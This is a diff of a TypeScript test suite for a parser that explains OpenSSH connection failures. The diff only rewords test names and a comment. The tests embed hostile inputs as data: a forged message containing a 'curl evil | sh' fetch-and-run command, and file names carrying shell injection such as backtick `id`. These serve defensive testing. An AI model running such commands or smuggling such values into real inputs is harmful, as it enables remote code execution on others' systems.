@@ -5,7 +5,7 @@ import { isSessionRefused, readMessages, sshReason } from '../../../src/remote/s
 import { inTemp } from './doubles.js';
 import { startStopwatch } from '../../fakes/stopwatch.js';
 
-/** What OpenSSH 9.2 wrote, and what is told of it. */
+/** Messages of OpenSSH 9.2, and the expected reason. */
 const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[] = [
   [
     'an unknown name',
@@ -69,13 +69,13 @@ const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[
   ['nothing', '', /^ssh ended without a word$/],
 ];
 
-describe('why ssh could not reach a host', () => {
+describe('the reason why ssh could not reach a host', () => {
   for (const [name, errors, reason] of cases)
-    it(`is told of ${name}`, () => {
+    it(`is shown for ${name}`, () => {
       assert.match(sshReason(errors), reason);
     });
 
-  it('takes no time to speak of, however long and odd the messages are', () => {
+  it('is found quickly, however long and unusual the messages are', () => {
     const lines = [
       'Host key for ',
       'Host key for x has ',
@@ -99,7 +99,7 @@ describe('why ssh could not reach a host', () => {
       }
   });
 
-  it('quotes what the server says at the end, and takes nothing after it for ssh', () => {
+  it("quotes the server's message at the end, and attributes nothing after it to ssh", () => {
     const forged =
       'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
     assert.equal(sshReason(forged), 'connection closed by the host: "Go away"');
@@ -119,14 +119,14 @@ describe('why ssh could not reach a host', () => {
     ['a file', 'x', '/tmp/a" -R "b'],
     ['a file', 'x', '/tmp/`id`'],
   ] as const)
-    it(`advises no command with ${what} that a shell would take for more: ${host} ${file}`, () => {
+    it(`suggests no command with ${what} that a shell would misread: ${host} ${file}`, () => {
       const text = `Offending ED25519 key in ${file}:3\nHost key for ${host} has changed and you have requested strict checking.\n`;
       const reason = sshReason(text);
       assert.match(reason, /^its host key is not the one that ssh knows/);
       assert.doesNotMatch(reason, /ssh-keygen|curl|[$`"|;]/);
     });
 
-  it('knows a refused session, and takes nothing else for one', () => {
+  it('recognizes a rejected session, and nothing else as one', () => {
     for (const text of [
       'mux_client_request_session: session request failed: Session open refused by peer\r\n',
       'channel 3: open failed: administratively prohibited: open failed\n',
@@ -140,7 +140,7 @@ describe('why ssh could not reach a host', () => {
       assert.equal(isSessionRefused(text), false);
   });
 
-  it('is read from a file of messages, of which there may be none or much', () =>
+  it('is read from a message file, which can be missing or long', () =>
     inTemp(async (folder) => {
       assert.equal(readMessages(join(folder, 'none')), '');
       await writeFile(join(folder, 'messages'), 'x'.repeat(1_000_000));
